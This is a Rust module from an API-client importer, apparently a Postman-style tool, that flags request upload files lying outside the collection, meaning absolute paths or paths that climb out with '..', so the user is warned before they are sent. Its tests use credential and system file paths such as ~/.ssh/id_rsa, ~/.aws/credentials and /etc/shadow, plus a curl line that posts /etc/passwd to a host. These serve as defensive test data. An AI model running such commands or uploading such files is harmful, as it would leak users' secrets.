//! File paths an import keeps as they are but marks: a request's raw body file or form
//! file that is outside the collection it will be written into, wherever that is
//! (absolute on any system, or climbing above it with `..`). Each is named in the
//! import's [`Imported::outside_files`]; such a file is sent only once allowed on the
//! computer that sends it (the pipeline's rule), so the user knows before it asks.

use crate::request::{BodyMode, FormKind, RequestDraft};

use super::model::Imported;

/// Whether `path`, as a collection's request names it, is outside the collection
/// wherever the collection is: absolute on any system (`/x`, `\x`, `C:\x`, `~/x`) or
/// climbing above it with `..` (either separator).
pub fn is_outside(path: &str) -> bool {
    let path = path.trim();
    let bytes = path.as_bytes();
    let drive = bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':';
    if path.starts_with(['/', '\\', '~']) || drive {
        return true;
    }
    let mut depth = 0usize;
    for part in path.split(['/', '\\']) {
        match part {
            "" | "." => {}
            ".." if depth == 0 => return true,
            ".." => depth -= 1,
            _ => depth += 1,
        }
    }
    false
}

/// Names, in [`Imported::outside_files`], each file of `imported`'s requests that is
/// outside the collection; the paths themselves stay as they are.
pub fn mark_outside_files(imported: &mut Imported) {
    let mut notes = Vec::new();
    for (folders, request) in imported.requests() {
        let label = folders
            .iter()
            .copied()
            .chain([request.name.as_str()])
            .filter(|part| !part.is_empty())
            .collect::<Vec<_>>()
            .join("/");
        for path in files(&request.draft).into_iter().filter(|p| is_outside(p)) {
            notes.push(format!(
                "{label}: the file {} is outside the collection; it is kept, and sent only \
                 once allowed on the computer that sends it",
                path.trim()
            ));
        }
    }
    imported.outside_files = notes;
}

/// The files a draft's body reads (as typed), whichever body type is chosen now.
fn files(draft: &RequestDraft) -> Vec<&str> {
    let raw = (draft.body_mode == BodyMode::File).then_some(draft.body_file.as_str());
    let form = draft
        .form
        .iter()
        .filter(|row| draft.body_mode == BodyMode::Multipart && row.kind == FormKind::File)
        .map(|row| row.value.as_str());
    raw.into_iter()
        .chain(form)
        .filter(|p| !p.trim().is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::interchange::model::{Format, ImportedFolder, ImportedRequest};
    use crate::request::FormRow;

    #[test]
    fn outside_is_absolute_anywhere_or_climbing_out() {
        for outside in [
            "/etc/passwd",
            "\\\\server\\share\\x",
            "C:\\Users\\me\\key.pem",
            "c:/x",
            "~/.ssh/id_rsa",
            "../x",
            "files/../../x",
            "a\\..\\..\\x",
            " ../x ",
        ] {
            assert!(is_outside(outside), "{outside}");
        }
        for inside in ["files/a.zip", "./a", "a/../b", "a/b/../../c", "plate.exr"] {
            assert!(!is_outside(inside), "{inside}");
        }
    }

    #[test]
    fn each_outside_file_is_named_and_kept() {
        let mut raw = RequestDraft::get("/api/upload");
        raw.body_mode = BodyMode::File;
        raw.body_file = "/home/me/.aws/credentials".into();
        let mut form = RequestDraft::get("/api/form");
        form.body_mode = BodyMode::Multipart;
        form.form = vec![
            FormRow::file("ok", "files/ok.bin"),
            FormRow::file("up", "../../secret.txt"),
            FormRow::text("note", "/not/a/file"),
        ];
        let mut inside = RequestDraft::get("/api/inside");
        inside.body_mode = BodyMode::File;
        inside.body_file = "files/in.bin".into();
        // A file of a body type not chosen is not sent.
        let mut unused = RequestDraft::get("/api/json");
        unused.body_mode = BodyMode::Json;
        unused.body_file = "/etc/shadow".into();
        let request = |name: &str, draft: RequestDraft| ImportedRequest {
            name: name.into(),
            description: None,
            draft,
        };
        let mut imported = Imported::new("Shared", Format::Postman);
        let mut folder = ImportedFolder::named("Uploads");
        folder.requests.push(request("Raw", raw));
        imported.root.folders.push(folder);
        imported.root.requests.push(request("Form", form));
        imported.root.requests.push(request("Inside", inside));
        imported.root.requests.push(request("Json", unused));
        mark_outside_files(&mut imported);
        assert_eq!(
            imported.outside_files.len(),
            2,
            "{:?}",
            imported.outside_files
        );
        assert!(imported.outside_files[0].starts_with("Form: the file ../../secret.txt"));
        assert!(
            imported.outside_files[1]
                .starts_with("Uploads/Raw: the file /home/me/.aws/credentials is outside")
        );
        let requests = imported.requests();
        let kept = requests
            .iter()
            .find(|(_, r)| r.name == "Raw")
            .map(|(_, r)| r);
        assert_eq!(
            kept.map(|r| r.draft.body_file.as_str()),
            Some("/home/me/.aws/credentials"),
            "kept as it is"
        );
    }

    #[test]
    fn imports_mark_outside_files_whatever_the_format() {
        use crate::interchange::detect::import_text;
        let curl = import_text("curl -X POST --data-binary @/etc/passwd http://h/x").unwrap();
        assert_eq!(curl.outside_files.len(), 1, "{:?}", curl.outside_files);
        assert!(curl.outside_files[0].contains("the file /etc/passwd is outside"));
        let postman = r#"{
            "info": {"name": "P", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
            "item": [
                {"name": "Raw", "request": {"method": "POST", "url": "http://h/a",
                    "body": {"mode": "file", "file": {"src": "C:\\Users\\me\\key.pem"}}}},
                {"name": "Form", "request": {"method": "POST", "url": "http://h/b",
                    "body": {"mode": "formdata", "formdata": [
                        {"key": "f", "type": "file", "src": "../../x.bin"},
                        {"key": "g", "type": "file", "src": "files/in.bin"}]}}}
            ]
        }"#;
        let postman = import_text(postman).unwrap();
        let notes = postman.outside_files.join("\n");
        assert_eq!(postman.outside_files.len(), 2, "{notes}");
        assert!(
            notes.contains("Raw: the file C:\\Users\\me\\key.pem"),
            "{notes}"
        );
        assert!(notes.contains("Form: the file ../../x.bin"), "{notes}");
    }
}
